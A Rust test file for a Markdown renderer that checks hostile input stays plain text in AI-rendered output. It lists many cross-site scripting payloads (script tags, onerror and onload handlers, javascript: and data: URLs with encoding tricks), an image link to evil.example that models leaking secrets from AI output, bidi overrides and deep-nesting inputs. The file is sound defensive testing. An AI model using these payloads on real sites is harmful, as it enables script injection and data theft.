//! Hostile Markdown: nothing of it may become more than text. Lines 11 and 12 of the attack list.

use std::time::Instant;

use super::{Style, to_html};

fn html(source: &str) -> String {
    to_html(source, Style::AI)
}

/// Every tag's name and every attribute name of `html`, which our own escaping makes trivial to cut apart.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()).collect()
}

fn assert_harmless(source: &str) {
    let html = html(source);
    for tag in tags(&html) {
        let name = tag.trim_start_matches('/').split([' ', '\n']).next().unwrap_or_default();
        let known = [
            "p",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "blockquote",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "figure",
            "figcaption",
            "span",
            "button",
            "a",
            "br",
            "hr",
            "div",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ];
        assert!(known.contains(&name), "<{tag}> from {source:?}");
        if let Some(href) = tag.split("href=\"").nth(1) {
            let allowed = ["https://", "http://", "mailto:", "/docs/"];
            assert!(allowed.iter().any(|start| href.starts_with(start)), "<{tag}> from {source:?}");
        }
        // Outside of quoted values only attributes of ours.
        let bare: String = tag.split('"').step_by(2).collect();
        assert!(
            !bare.contains(" on") && !bare.contains("style") && !bare.contains("src"),
            "<{tag}>"
        );
    }
}

#[test]
fn attack11_markup_in_text_stays_text() {
    let hostile = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <b onmouseover=alert(1)>b</b>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<!-- --><script>alert(1)</script>",
        "<style>*{display:none}</style>",
        "</div></main><script>alert(1)</script>",
        "```html\n<script>alert(1)</script>\n```",
        "```<script>alert(1)</script>\nx\n```",
        "```\"onclick=alert(1)//\nx\n```",
        "`<script>alert(1)</script>`",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | c |",
        "# <script>alert(1)</script>",
        "- [x] <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\<script>alert(1)\\</script>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "$$<img src=x onerror=alert(1)>$$",
    ];
    for source in hostile {
        assert_harmless(source);
    }
    assert!(html("<b>x</b>").contains("&lt;b&gt;"));
}

#[test]
fn attack11_links_lead_only_where_allowed() {
    let hostile = [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](java&#115;cript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "[x](https://a.example/\" onclick=\"alert(1))",
        "[x](https://a.example 'x\" onclick=\"alert(1)')",
        "![x](javascript:alert(1))",
        "[![x](javascript:a)](javascript:b)",
        "https://a.example/\"onmouseover=\"alert(1)",
        "https://a.example/<script>alert(1)</script>",
    ];
    for source in hostile {
        assert_harmless(source);
        assert!(!html(source).to_ascii_lowercase().contains("href=\"java"), "{source}");
    }
    assert_eq!(html("[x](javascript:a)"), "<p>x</p>");
}

#[test]
fn attack12_images_are_links_and_never_load() {
    let html = html("![secret](https://evil.example/?q=secret)");
    assert!(!html.contains("<img") && !html.contains("src="), "{html}");
    assert!(html.contains("href=\"https://evil.example/?q=secret\""), "{html}");
    assert!(html.contains("rel=\"noopener noreferrer nofollow\""), "{html}");
    let nested = to_html("[![alt](https://a.example)](https://b.example)", Style::AI);
    assert_eq!(nested.matches("<a ").count(), 1, "{nested}");
    assert!(nested.contains("https://b.example") && nested.contains("alt"), "{nested}");
}

#[test]
fn attack11_direction_overrides_are_dropped() {
    let html = html("`a\u{202E}b\u{2066}c` d\u{202D}e");
    assert_eq!(html, "<p><code>abc</code> de</p>");
}

#[test]
fn nested_markdown_ten_thousand_deep_is_quick_and_shallow() {
    let lists: Vec<_> = (0..300).map(|n| format!("{}- a\n", "  ".repeat(n))).collect();
    let lists = lists.concat();
    let sources = [
        ">".repeat(10_000),
        "> ".repeat(10_000),
        "- ".repeat(10_000),
        "[".repeat(10_000),
        "![".repeat(10_000),
        "*a **a ".repeat(10_000),
        "*".repeat(10_000) + "a" + &"*".repeat(10_000),
        "[a](".repeat(10_000),
        "[a]".repeat(10_000),
        "`".repeat(10_000) + "a",
        "a`".repeat(10_000),
        "<a ".repeat(10_000),
        "<!--".repeat(10_000),
        "~~a ".repeat(10_000),
        "_a __b ".repeat(10_000),
        "&".repeat(10_000),
        "|".repeat(10_000),
        "http".repeat(10_000),
        "https://a.example/)".repeat(3_000),
        format!("a|{}\n-|{}\n", "a|".repeat(2_000), "-|".repeat(2_000)),
        lists,
    ];
    for source in sources {
        let started = Instant::now();
        let html = html(&source);
        let took = started.elapsed();
        let name: String = source.chars().take(12).collect();
        assert!(took.as_secs() < 3, "{name} took {took:?}");
        let mut depth = 0_i64;
        let mut deepest = 0;
        for tag in tags(&html) {
            if !tag.starts_with(['b', 'h']) {
                depth += if tag.starts_with('/') { -1 } else { 1 };
            }
            deepest = deepest.max(depth);
        }
        assert!(deepest < 64, "{name} is {deepest} deep");
    }
}

#[test]
fn markdown_renders_the_usual_things() {
    assert_eq!(html("**a** _b_ ~~c~~"), "<p><strong>a</strong> <em>b</em> <del>c</del></p>");
    assert_eq!(html("# a"), "<h3>a</h3>");
    assert_eq!(to_html("# A `b`", Style::PAGE), "<h1 id=\"a-b\">A <code>b</code></h1>");
    assert_eq!(to_html("[x](docs/api.md)", Style::PAGE), "<p><a href=\"/docs/api\">x</a></p>");
    assert_eq!(html("[x](docs/api.md)"), "<p>x</p>");
    assert_eq!(html("3. a\n4. b"), "<ol start=\"3\"><li>a</li><li>b</li></ol>");
    assert_eq!(to_html("a\nb", Style::PERSON), "<p>a<br>b</p>");
    assert_eq!(html("a\nb"), "<p>a\nb</p>");
    assert_eq!(html("[a](/docs/x)"), "<p><a href=\"/docs/x\">a</a></p>");
    assert!(html("- [x] a").contains("aria-label=\"Done\""));
    let table = html("| a | b |\n|---|--:|\n| 1 | 2 |");
    assert!(table.contains("<th scope=\"col\">a</th>"), "{table}");
    assert!(
        table.contains("<td data-align=\"right\">2</td></tr></tbody></table></div>"),
        "{table}"
    );
}

#[test]
fn code_keeps_its_text_and_names_its_language() {
    let html = html("```rust,no_run\nlet a = 1 < 2;\n```");
    assert!(
        html.contains("<span>rust</span>") && html.contains("let a = 1 &lt; 2;\n</code>"),
        "{html}"
    );
    // A fence that is still being written already is code.
    assert!(super::to_html("```\nabc", Style::AI).contains("<code>abc"));
}
